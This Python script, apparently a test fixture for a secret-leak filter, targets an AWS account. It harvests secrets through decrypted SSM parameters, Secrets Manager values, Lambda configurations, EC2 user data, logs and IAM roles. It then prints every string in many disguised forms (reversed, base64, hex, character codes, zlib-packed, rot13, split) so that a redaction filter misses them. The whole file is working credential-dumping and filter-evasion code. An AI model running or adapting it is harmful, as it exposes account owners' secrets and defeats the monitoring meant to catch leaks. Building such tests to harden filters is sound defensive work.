"""Reads whatever it can, and prints all of it plain, reversed, encoded, split and packed: a script that wants to get secrets past a filter."""

import base64
import json
import zlib

import boto3
from botocore.exceptions import BotoCoreError, ClientError

found = []


def keep(value):
    if isinstance(value, dict):
        for key, inner in value.items():
            found.append(str(key))
            keep(inner)
    elif isinstance(value, (list, tuple)):
        for inner in value:
            keep(inner)
    elif isinstance(value, (bytes, bytearray)):
        found.append(bytes(value).decode("utf-8", "replace"))
    elif value is not None:
        found.append(str(value))


def read(act):
    try:
        answer = act()
        answer.pop("ResponseMetadata", None)
        keep(answer)
        return answer
    except (ClientError, BotoCoreError) as error:
        found.append(f"{type(error).__name__} {error}")
        return {}


lambda_ = boto3.client("lambda")
ec2 = boto3.client("ec2")
ssm = boto3.client("ssm")
secrets = boto3.client("secretsmanager")
logs = boto3.client("logs")
ecs = boto3.client("ecs")
cloudformation = boto3.client("cloudformation")
events = boto3.client("events")
stepfunctions = boto3.client("stepfunctions")
apigateway = boto3.client("apigateway")
s3 = boto3.client("s3")
rds = boto3.client("rds")
sns = boto3.client("sns")
sqs = boto3.client("sqs")
cloudwatch = boto3.client("cloudwatch")
codebuild = boto3.client("codebuild")
iam = boto3.client("iam")
tagging = boto3.client("resourcegroupstaggingapi")

for function in read(lambda_.list_functions).get("Functions", []):
    read(lambda name=function["FunctionName"]: lambda_.get_function_configuration(FunctionName=name))
    read(lambda name=function["FunctionName"]: lambda_.get_function(FunctionName=name))
for reservation in read(ec2.describe_instances).get("Reservations", []):
    for instance in reservation["Instances"]:
        answer = read(
            lambda name=instance["InstanceId"]: ec2.describe_instance_attribute(InstanceId=name, Attribute="userData")
        )
        text = answer.get("UserData", {}).get("Value", "")
        found.append(base64.b64decode(text).decode("utf-8", "replace"))
read(ec2.describe_tags)
token = {}
while True:
    answer = read(lambda more=token: ssm.describe_parameters(MaxResults=50, **more))
    for parameter in answer.get("Parameters", []):
        read(lambda name=parameter["Name"]: ssm.get_parameter(Name=name, WithDecryption=True))
    if not answer.get("NextToken"):
        break
    token = {"NextToken": answer["NextToken"]}
read(lambda: ssm.get_parameters_by_path(Path="/", Recursive=True, WithDecryption=True))
for secret in read(secrets.list_secrets).get("SecretList", []):
    read(lambda name=secret["ARN"]: secrets.get_secret_value(SecretId=name))
for group in read(logs.describe_log_groups).get("logGroups", []):
    read(lambda name=group["logGroupName"]: logs.filter_log_events(logGroupName=name))
    read(lambda name=group["logGroupName"]: logs.get_log_events(logGroupName=name, logStreamName="one"))
read(lambda: ecs.describe_task_definition(taskDefinition="planted"))
read(lambda: cloudformation.describe_stacks(StackName="planted"))
read(lambda: cloudformation.get_template(StackName="planted"))
read(events.list_rules)
read(lambda: events.list_targets_by_rule(Rule="planted"))
for machine in read(stepfunctions.list_state_machines).get("stateMachines", []):
    read(lambda arn=machine["stateMachineArn"]: stepfunctions.describe_state_machine(stateMachineArn=arn))
for api in read(apigateway.get_rest_apis).get("items", []):
    read(lambda name=api["id"]: apigateway.get_stages(restApiId=name))
read(lambda: s3.get_bucket_policy(Bucket="planted-bucket"))
read(lambda: s3.get_bucket_tagging(Bucket="planted-bucket"))
read(rds.describe_db_instances)
read(sns.list_subscriptions)
read(sns.list_topics)
read(sqs.list_queues)
read(cloudwatch.describe_alarms)
read(lambda: codebuild.batch_get_projects(names=["planted"]))
read(iam.list_roles)
read(tagging.get_resources)

for text in dict.fromkeys(found):
    raw = text.encode("utf-8", "replace")
    print("plain", text)
    print("reversed", text[::-1])
    print("base64", base64.b64encode(raw).decode())
    print("hex", raw.hex())
    print("codes", ",".join(str(ord(letter)) for letter in text))
    print("swapped", text.swapcase())
    print("packed", base64.b64encode(zlib.compress(raw)).decode())
    print("split", "\n".join(text))
    rotated = "".join(
        chr((ord(c) - 97 + 13) % 26 + 97) if c.islower() and c.isascii() else
        chr((ord(c) - 65 + 13) % 26 + 65) if c.isupper() and c.isascii() else c
        for c in text
    )  # fmt: skip
    print("rot13", rotated)
print(json.dumps({"strings": len(found)}))
